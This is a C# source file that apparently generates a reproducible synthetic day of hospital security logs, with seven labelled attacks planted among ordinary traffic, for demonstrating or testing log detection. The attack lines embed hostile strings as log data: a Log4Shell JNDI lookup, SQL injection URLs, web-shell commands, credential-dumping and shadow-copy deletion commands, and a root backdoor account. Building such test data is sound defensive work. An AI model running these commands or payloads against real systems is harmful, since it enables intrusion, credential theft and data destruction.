using System.Globalization;

namespace Juming.Testing.Demo;

/// <summary>One line of the demonstration day: when it happened, which device says it, and how.</summary>
/// <param name="At">Event time.</param>
/// <param name="Device">Device that sends it.</param>
/// <param name="Text">The line, with its syslog header.</param>
/// <param name="Attack">Name of the planted attack that it belongs to, or null.</param>
public readonly record struct DemoLine(DateTimeOffset At, DemoDevice Device, string Text, string? Attack);

/// <summary>A device of the demonstration hospital; each sends from a loopback address of its own, so that it is a sender of its own.</summary>
public enum DemoDevice
{
    /// <summary>Perimeter firewall, FortiGate style.</summary>
    Firewall = 11,

    /// <summary>Core firewall with Chinese key=value logs.</summary>
    CoreFirewall = 12,

    /// <summary>Web server of the appointment site.</summary>
    WebServer = 21,

    /// <summary>Jump host.</summary>
    JumpHost = 31,

    /// <summary>Windows collector with Sysmon.</summary>
    Windows = 41,

    /// <summary>Suricata sensor.</summary>
    Sensor = 51,

    /// <summary>VPN gateway.</summary>
    Vpn = 61,

    /// <summary>Web application firewall, CEF.</summary>
    Waf = 71,
}

/// <summary>
/// A believable day of a hospital's logs, the same for the same seed: office-hours traffic with a lunch dip, and seven planted attacks.
/// All outside addresses are documentation addresses.
/// </summary>
public sealed class DemoDay(int seed, DateTimeOffset end, int quietLines = 40_000)
{
    private static readonly string[] People = ["zhangwei", "lina", "wangfang", "chenjie", "liuyang", "zhaomin", "sunlei", "hejing"];
    private static readonly string[] Pages = ["/", "/login", "/api/v1/doctors?dept=3", "/api/v1/slots?doctor=17&day=2", "/static/app.9c1.js", "/static/site.css", "/images/map.png", "/api/v1/appointments", "/news/128", "/help"];
    private static readonly string[] Browsers = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36", "Mozilla/5.0 (iPhone; CPU iPhone OS 19_0 like Mac OS X) AppleWebKit/605.1.15 MicroMessenger/8.0.60", "Mozilla/5.0 (Linux; Android 16) AppleWebKit/537.36 Chrome/140.0.0.0 Mobile Safari/537.36"];
    private static readonly string[] Names = ["www.example.com", "update.example.net", "mail.hospital.example", "time.example.org", "cdn.example.net", "api.example.com"];

    private readonly Random _random = new(seed);
    private readonly List<DemoLine> _lines = [];

    /// <summary>All lines, in the order of their event time.</summary>
    public IReadOnlyList<DemoLine> Lines()
    {
        if (_lines.Count > 0) return _lines;
        var start = end.AddHours(-24);
        for (var i = 0; i < quietLines; i++) Quiet(start + WorkingDay());
        BruteForce(start.AddHours(2.2));
        WebShell(start.AddHours(9.7));
        Phishing(start.AddHours(11.4));
        PortScan(start.AddHours(14.1));
        DnsTunnel(start.AddHours(15.6));
        Log4Shell(start.AddHours(17.2));
        PasswordSpraying(start.AddHours(20.3));
        _lines.Sort((a, b) => a.At.CompareTo(b.At));
        return _lines;
    }

    /// <summary>Some lines of ordinary traffic at an instant, for the time after the day has been sent.</summary>
    public IReadOnlyList<DemoLine> Now(DateTimeOffset at, int count)
    {
        _lines.Clear();
        for (var i = 0; i < count; i++) Quiet(at);
        return [.. _lines];
    }

    /// <summary>An offset within the day, denser in office hours.</summary>
    private TimeSpan WorkingDay()
    {
        while (true)
        {
            var hour = _random.NextDouble() * 24;
            var load = 0.15 + (0.85 * Math.Max(0, Math.Sin(Math.PI * (hour - 7) / 12))) - (hour is > 12 and < 13.5 ? 0.3 : 0);
            if (_random.NextDouble() < load) return TimeSpan.FromHours(hour);
        }
    }

    private void Quiet(DateTimeOffset at)
    {
        switch (_random.Next(10))
        {
            case < 3: Traffic(at, Inside(), Outside(), Pick([443, 443, 443, 80, 53]), "accept"); break;
            case 3: Core(at, $"日志类型=会话日志 源地址={Inside()} 源端口={Port()} 目的地址={Server()} 目的端口=443 协议=TCP 动作=允许 策略=门诊访问HIS 发送字节={_random.Next(40_000)} 接收字节={_random.Next(900_000)}"); break;
            case < 6: Access(at, Outside(), "GET", Pick(Pages), _random.Next(40) == 0 ? 404 : 200, Pick(Browsers)); break;
            case 6: Ssh(at, $"Accepted publickey for {Pick(People)} from {Inside()} port {Port()} ssh2"); break;
            case 7: Process(at, "his-pc-" + _random.Next(100, 400).ToString(CultureInfo.InvariantCulture), @"C:\Windows\explorer.exe", @"C:\Program Files\Google\Chrome\Application\chrome.exe", "chrome.exe --type=renderer --lang=zh-CN", Pick(People)); break;
            case 8: Eve(at, Inside(), "10.20.0.53", 53, $"\"event_type\":\"dns\",\"dns\":{{\"type\":\"query\",\"id\":{_random.Next(65536)},\"rrname\":\"{Pick(Names)}\",\"rrtype\":\"A\"}}"); break;
            default: Vpn(at, $"User {Pick(People)} from IP {Outside()} login succeeded, virtual IP 10.30.0.{_random.Next(2, 250)}"); break;
        }
    }

    private void BruteForce(DateTimeOffset at)
    {
        const string attack = "ssh-brute-force";
        for (var i = 0; i < 240; i++) Ssh(at.AddSeconds(i * 4), $"Failed password for {(i % 3 == 0 ? "root" : "invalid user " + Pick(["admin", "oracle", "test", "postgres"]))} from 203.0.113.66 port {Port()} ssh2", attack);
        Ssh(at.AddSeconds(965), "Accepted password for backup from 203.0.113.66 port 51514 ssh2", attack);
        Add(at.AddSeconds(1010), DemoDevice.JumpHost, $"<85>{Rfc3164(at.AddSeconds(1010))} jump01 sudo:   backup : TTY=pts/2 ; PWD=/tmp ; USER=root ; COMMAND=/bin/cat /etc/shadow", attack);
        Add(at.AddSeconds(1040), DemoDevice.JumpHost, $"<86>{Rfc3164(at.AddSeconds(1040))} jump01 useradd[8812]: new user: name=sysupd, UID=0, GID=0, home=/home/sysupd, shell=/bin/bash, from=/dev/pts/2", attack);
    }

    private void WebShell(DateTimeOffset at)
    {
        const string attack = "webshell";
        for (var i = 0; i < 60; i++) Access(at.AddSeconds(i * 2), "198.51.100.23", "GET", $"/item.php?id={i}%27%20UNION%20SELECT%20username,password%20FROM%20users--", i % 7 == 0 ? 500 : 200, "sqlmap/1.8.4#stable (https://sqlmap.org)", attack);
        Access(at.AddSeconds(190), "198.51.100.23", "POST", "/uploads/avatar.php", 200, Browsers[0], attack);
        foreach (var command in new[] { "whoami", "id", "cat%20/etc/passwd", "uname%20-a" }) Access(at.AddSeconds(200 + _random.Next(120)), "198.51.100.23", "POST", $"/uploads/shell71.php?cmd={command}", 200, "antSword/v2.1", attack);
        Traffic(at.AddSeconds(340), "10.20.1.15", "198.51.100.23", 4444, "accept", attack);
    }

    private void Phishing(DateTimeOffset at)
    {
        const string attack = "phishing";
        const string host = "fin-pc-023";
        Process(at, host, @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "wangfang", attack);
        Process(at.AddSeconds(95), host, @"C:\Windows\System32\cmd.exe", @"C:\Temp\m64.exe", "m64.exe privilege::debug sekurlsa::logonpasswords exit", "wangfang", attack);
        Process(at.AddSeconds(180), host, @"C:\Windows\System32\cmd.exe", @"C:\Windows\System32\net.exe", "net group \"Domain Admins\" /domain", "wangfang", attack);
        Process(at.AddSeconds(420), "dc01", @"C:\Windows\System32\services.exe", @"C:\Windows\PSEXESVC.exe", @"C:\Windows\PSEXESVC.exe", "administrator", attack);
        Process(at.AddSeconds(610), "dc01", @"C:\Windows\System32\cmd.exe", @"C:\Windows\System32\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "administrator", attack);
    }

    private void PortScan(DateTimeOffset at)
    {
        for (var i = 0; i < 400; i++) Traffic(at.AddMilliseconds(i * 120), "192.0.2.77", $"203.0.113.{10 + (i % 6)}", 1 + (i * 37 % 9000), "deny", "port-scan");
    }

    private void DnsTunnel(DateTimeOffset at)
    {
        for (var i = 0; i < 180; i++)
        {
            var label = Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(BitConverter.GetBytes(seed + i)))[..40];
            Eve(at.AddSeconds(i * 5), "10.20.7.44", "10.20.0.53", 53, $"\"event_type\":\"dns\",\"dns\":{{\"type\":\"query\",\"id\":{_random.Next(65536)},\"rrname\":\"{label}.t.bad-tunnel.example\",\"rrtype\":\"TXT\"}}", "dns-tunnel");
        }
    }

    private void Log4Shell(DateTimeOffset at)
    {
        for (var i = 0; i < 12; i++)
        {
            var when = at.AddSeconds(i * 20);
            Access(when, "198.51.100.90", "GET", "/?x=${jndi:ldap://198.51.100.90:1389/a}", 404, "${jndi:ldap://198.51.100.90/a}", "log4shell");
            Add(when, DemoDevice.Waf, $"<134>{Rfc3164(when)} waf01 CEF:0|Imperva Inc.|SecureSphere|14.7|4{i}|Log4Shell Remote Code Execution|9|proto=TCP src=198.51.100.90 spt={Port()} dst=10.20.1.15 dpt=443 act=Block cat=Alert request=/?x\\=${{jndi:ldap://198.51.100.90:1389/a}} requestMethod=GET", "log4shell");
        }
    }

    private void PasswordSpraying(DateTimeOffset at)
    {
        for (var i = 0; i < 90; i++) Vpn(at.AddSeconds(i * 9), $"User {Pick(People)} from IP 192.0.2.150 login failed: wrong password", "vpn-spraying");
    }

    private void Traffic(DateTimeOffset at, string from, string to, int port, string action, string? attack = null)
    {
        var local = at.ToOffset(TimeSpan.FromHours(8));
        Add(at, DemoDevice.Firewall, $"<189>date={local:yyyy-MM-dd} time={local:HH:mm:ss} devname=\"FGT-HOSP-01\" devid=\"FGT60F0000000001\" eventtime={at.ToUnixTimeMilliseconds()}000000 tz=\"+0800\" logid=\"0000000013\" type=\"traffic\" subtype=\"forward\" level=\"notice\" vd=\"root\" srcip={from} srcport={Port()} srcintf=\"lan\" dstip={to} dstport={port} dstintf=\"wan1\" sessionid={_random.Next()} proto={(port == 53 ? 17 : 6)} action=\"{action}\" policyid={_random.Next(1, 40)} service=\"{(port == 443 ? "HTTPS" : port == 53 ? "DNS" : "tcp/" + port.ToString(CultureInfo.InvariantCulture))}\" duration={_random.Next(300)} sentbyte={_random.Next(90_000)} rcvdbyte={_random.Next(900_000)} appcat=\"unscanned\"", attack);
    }

    private void Core(DateTimeOffset at, string text) => Add(at, DemoDevice.CoreFirewall, $"<134>{Rfc3164(at)} fw-core-01 secdev: {text}", null);

    private void Access(DateTimeOffset at, string from, string method, string url, int status, string agent, string? attack = null) =>
        Add(at, DemoDevice.WebServer, $"<134>1 {at.UtcDateTime:yyyy-MM-ddTHH:mm:ss.ffffff}Z his-web-01 nginx 900 access - {from} - - [{at.UtcDateTime.ToString("dd/MMM/yyyy:HH:mm:ss", CultureInfo.InvariantCulture)} +0000] \"{method} {url} HTTP/1.1\" {status} {_random.Next(200, 40_000)} \"https://his.hospital.example/\" \"{agent}\"", attack);

    private void Ssh(DateTimeOffset at, string text, string? attack = null) => Add(at, DemoDevice.JumpHost, $"<38>{Rfc3164(at)} jump01 sshd[{_random.Next(1000, 9999)}]: {text}", attack);

    private void Vpn(DateTimeOffset at, string text, string? attack = null) => Add(at, DemoDevice.Vpn, $"<134>{Rfc3164(at)} vpn01 sslvpn[712]: {text}", attack);

    private void Process(DateTimeOffset at, string host, string parent, string image, string command, string user, string? attack = null)
    {
        static string Json(string text) => text.Replace("\\", "\\\\", StringComparison.Ordinal).Replace("\"", "\\\"", StringComparison.Ordinal);
        Add(at, DemoDevice.Windows, $"<13>1 {at.UtcDateTime:yyyy-MM-ddTHH:mm:ss.ffffff}Z {host} Sysmon 3020 1 - {{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Computer\":\"{host}.hospital.example\",\"UtcTime\":\"{at.UtcDateTime:yyyy-MM-dd HH:mm:ss.fff}\",\"ProcessId\":{_random.Next(500, 30_000)},\"Image\":\"{Json(image)}\",\"CommandLine\":\"{Json(command)}\",\"User\":\"HOSP\\\\{user}\",\"IntegrityLevel\":\"Medium\",\"ParentImage\":\"{Json(parent)}\",\"ParentCommandLine\":\"{Json(parent)}\"}}", attack);
    }

    private void Eve(DateTimeOffset at, string from, string to, int port, string detail, string? attack = null) =>
        Add(at, DemoDevice.Sensor, $"<134>{Rfc3164(at)} ids01 suricata[771]: {{\"timestamp\":\"{at.UtcDateTime:yyyy-MM-ddTHH:mm:ss.ffffff}+0000\",\"flow_id\":{_random.NextInt64(1, long.MaxValue >> 8)},\"in_iface\":\"eth1\",\"src_ip\":\"{from}\",\"src_port\":{Port()},\"dest_ip\":\"{to}\",\"dest_port\":{port},\"proto\":\"UDP\",{detail}}}", attack);

    private void Add(DateTimeOffset at, DemoDevice device, string text, string? attack) => _lines.Add(new DemoLine(at, device, text, attack));

    /// <summary>RFC 3164 time in the site's zone, which is what such devices print.</summary>
    private static string Rfc3164(DateTimeOffset at)
    {
        var local = at.ToOffset(TimeSpan.FromHours(8));
        return string.Create(CultureInfo.InvariantCulture, $"{local:MMM} {local.Day,2} {local:HH:mm:ss}");
    }

    private string Inside() => $"10.20.{_random.Next(1, 9)}.{_random.Next(2, 250)}";

    private string Server() => $"10.20.1.{_random.Next(10, 20)}";

    private string Outside() => Pick(["203.0.113.", "198.51.100.", "192.0.2."]) + _random.Next(100, 250).ToString(CultureInfo.InvariantCulture);

    private int Port() => _random.Next(1024, 65_000);

    private T Pick<T>(T[] from) => from[_random.Next(from.Length)];
}
